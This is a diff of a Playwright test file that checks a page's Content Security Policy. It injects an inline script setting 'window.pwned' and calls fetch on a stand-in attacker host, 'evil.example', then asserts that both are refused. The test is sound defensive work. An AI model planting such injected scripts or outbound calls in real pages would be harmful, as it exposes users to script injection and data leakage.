@@ -22,22 +22,25 @@ test('the page asks for nothing but its own files, and sends nothing', async ({ 
   expect(requests.filter(({ url }) => url.includes('/api/'))).toEqual([]);
 });
 
-test('script that got into the page anyway would not run, and could not send', async ({ page }) => {
-  test.info().annotations.push({ type: 'expects', description: 'the policy refuses both' });
-  await page.goto('/');
-  const refused = await page.evaluate(async () => {
-    const violations: string[] = [];
-    document.addEventListener('securitypolicyviolation', (event) =>
-      violations.push(event.effectiveDirective),
-    );
-    const script = document.createElement('script');
-    script.textContent = 'window.pwned = true';
-    document.body.append(script);
-    await fetch('https://evil.example/').catch(() => undefined);
-    await new Promise((resolve) => setTimeout(resolve, 50));
-    return violations;
+test.describe('the policy', () => {
+  test.use({ expectedErrors: [/Content Security Policy/i, /evil\.example/] });
+
+  test('script that got into the page anyway would not run, and could not send', async ({ page }) => {
+    await page.goto('/');
+    const refused = await page.evaluate(async () => {
+      const violations: string[] = [];
+      document.addEventListener('securitypolicyviolation', (event) =>
+        violations.push(event.effectiveDirective),
+      );
+      const script = document.createElement('script');
+      script.textContent = 'window.pwned = true';
+      document.body.append(script);
+      await fetch('https://evil.example/').catch(() => undefined);
+      await new Promise((resolve) => setTimeout(resolve, 50));
+      return violations;
+    });
+    expect(refused).toContain('connect-src');
+    expect(refused.some((directive) => directive.startsWith('script-src'))).toBe(true);
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
   });
-  expect(refused).toContain('connect-src');
-  expect(refused.some((directive) => directive.startsWith('script-src'))).toBe(true);
-  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
 });
